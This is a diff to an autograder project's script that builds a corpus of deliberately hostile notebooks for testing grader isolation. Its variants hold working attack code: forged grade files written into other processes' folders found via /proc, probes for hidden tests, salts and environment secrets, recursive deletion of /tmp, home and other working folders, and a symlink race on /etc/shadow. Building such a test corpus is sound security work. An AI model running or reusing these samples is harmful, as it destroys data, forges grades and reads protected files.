@@ -14,25 +14,46 @@ Destructive notebooks (``delete_files``) only act when they run as one of the gr
 (uid 61000-61499): an unprivileged grader cannot protect the file system, and the corpus must never
 damage the machine of someone who runs it that way.
 
+``read_hidden`` derives every place it probes at run time (``read_hidden_probe.py``: the folders of the
+command lines and working directories in sight, the temporary folders, the home folder), so it finds
+another checkout of the course on the same host as readily as the one being tested.
+
 Run: ``python examples/hostile/make_corpus.py`` (writes next to this file).
 """
 from __future__ import annotations
 
 import argparse
+import inspect
 import json
+import sys
 from pathlib import Path
 
 import nbformat
 
 HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE))
+from read_hidden_probe import _hidden_within_reach  # noqa: E402
 REPO = HERE.parents[1]
 DEFAULT_BASE = REPO / "tests" / "fixtures" / "fixture_hw" / "fixture_hw.ipynb"
 DEFAULT_FUNCTIONS = ("sample_mean", "mle_covariance", "log_sum_exp")
+
+
+def _braces(source: str) -> str:
+    """``source`` made safe for ``str.format`` (the slot bodies are format templates)."""
+    return source.replace("{", "{{").replace("}", "}}")
+
 
 # ------------------------------------------------------------------------------------------ the variants
 # Each: description, {slot: new cell source (with {name}, {arg})}, extra top-level cells (after the graded
 # cells), expected {"notebook": status, "slots": {slot: status}, "contains": {slot: text}}.
 _SEGFAULT = "import ctypes\n    ctypes.string_at(0)  # reads address 0: SIGSEGV"
+# read_hidden: the probe (read_hidden_probe.py, every place derived at run time), then the graded function
+_READ_HIDDEN = (_braces(inspect.getsource(_hidden_within_reach)) + "\n\n"
+                "def {name}({arg}):\n"
+                "    found = _hidden_within_reach()\n"
+                "    if found:\n"
+                "        raise RuntimeError('READ SECRET: ' + repr(found[:3]))\n"
+                "    return {arg}.mean(axis=0)\n")
 VARIANTS = {
     "syntax_error": (
         "a graded cell that does not parse",
@@ -102,11 +123,16 @@ VARIANTS = {
         {"notebook": "ok", "slots": {"F0": "ok", "F1": "ok", "F2": "ok"}}),
     "fake_results": (
         "writes a perfect results.json and grades.csv wherever a grader might look",
-        {}, ["import json, os\n"
+        {}, ["import glob, json, os\n"
              "fake = {'score': 100.0, 'tests': [], 'output': 'all tests passed'}\n"
              "targets = ['results.json', '../results.json', '../../results.json', '/autograder/results/results.json',\n"
-             "           '/work/main/grading_output/results.json', '/tmp/results.json', 'grading_output/results.json',\n"
-             "           '/work/main/grading_output/grades.csv', '../grades.csv']\n"
+             "           '/tmp/results.json', 'grading_output/results.json', '../grades.csv']\n"
+             "for cwd in glob.glob('/proc/*/cwd'):  # every working folder it can see, the grader's among them\n"
+             "    try:\n"
+             "        where = os.readlink(cwd)\n"
+             "    except OSError:\n"
+             "        continue\n"
+             "    targets += [f'{where}/grading_output/results.json', f'{where}/grading_output/grades.csv']\n"
              "for t in targets:\n"
              "    try:\n"
              "        os.makedirs(os.path.dirname(t) or '.', exist_ok=True)\n"
@@ -117,23 +143,7 @@ VARIANTS = {
         {"notebook": "ok", "slots": {"F0": "ok", "F1": "ok", "F2": "ok"}}),
     "read_hidden": (
         "tries to read the hidden tests, the grading salt and the reference; fails loudly if it can",
-        {"F0": "def {name}({arg}):\n"
-               "    import glob, os\n"
-               "    found = []\n"
-               "    for pattern in ['/work/main/autograder/suites/*.py', '/work/main/tests/**/suite.py',\n"
-               "                    '/work/main/course_lib/*.py', '/autograder/source/**/*.py', '/tmp/*salt*',\n"
-               "                    '/tmp/*/*salt*', '/run/course-sandbox/*', '/proc/1/environ']:\n"
-               "        for path in glob.glob(pattern, recursive=True):\n"
-               "            try:\n"
-               "                with open(path, 'rb') as fh:\n"
-               "                    fh.read(1)\n"
-               "                found.append(path)\n"
-               "            except OSError:\n"
-               "                pass\n"
-               "    secrets = [k for k in os.environ if 'SALT' in k or 'SECRET' in k]\n"
-               "    if found or secrets:\n"
-               "        raise RuntimeError('READ SECRET: ' + repr(found[:3]) + repr(secrets))\n"
-               "    return {arg}.mean(axis=0)\n"},
+        {"F0": _READ_HIDDEN},
         [], {"notebook": "ok", "slots": {"F0": "ok"}}),
     "fake_score": (
         "prints a fake perfect score in several formats",
@@ -144,7 +154,13 @@ VARIANTS = {
         "deletes everything it can reach: its parent folder, /tmp, the repository",
         {}, ["import glob, os, shutil\n"
              "if os.getuid() in range(61000, 61500):  # corpus safety: only inside the grader's private user\n"
-             "    for target in ['..', '/tmp', '/work/main', '/autograder', os.path.expanduser('~')]:\n"
+             "    seen = []\n"
+             "    for cwd in glob.glob('/proc/*/cwd'):  # every working folder it can see, the grader's among them\n"
+             "        try:\n"
+             "            seen.append(os.readlink(cwd))\n"
+             "        except OSError:\n"
+             "            pass\n"
+             "    for target in ['..', '/tmp', '/autograder', os.path.expanduser('~'), *seen]:\n"
              "        shutil.rmtree(target, ignore_errors=True)\n"
              "    for path in glob.glob('/tmp/*') + glob.glob('/tmp/*/*'):\n"
              "        try:\n"
@@ -179,15 +195,15 @@ VARIANTS = {
          "    while True:\n"
          "        try:\n"
          "            os.makedirs('outputs', exist_ok=True)\n"
-         "            with open(f'outputs/{names[0]}.0.npz.x', 'wb') as fh:\n"
+         "            with open(f'outputs/{names[0]}.0.value.x', 'wb') as fh:\n"
          "                pickle.dump(Payload(), fh)\n"
-         "            os.replace(f'outputs/{names[0]}.0.npz.x', f'outputs/{names[0]}.0.npz')\n"
-         "            if not os.path.islink(f'outputs/{names[2]}.0.npz'):\n"
+         "            os.replace(f'outputs/{names[0]}.0.value.x', f'outputs/{names[0]}.0.value')\n"
+         "            if not os.path.islink(f'outputs/{names[2]}.0.value'):\n"
          "                try:\n"
-         "                    os.remove(f'outputs/{names[2]}.0.npz')\n"
+         "                    os.remove(f'outputs/{names[2]}.0.value')\n"
          "                except OSError:\n"
          "                    pass\n"
-         "                os.symlink('/etc/shadow', f'outputs/{names[2]}.0.npz')\n"
+         "                os.symlink('/etc/shadow', f'outputs/{names[2]}.0.value')\n"
          "        except OSError:\n"
          "            pass\n"
          "        time.sleep(0.001)\n"
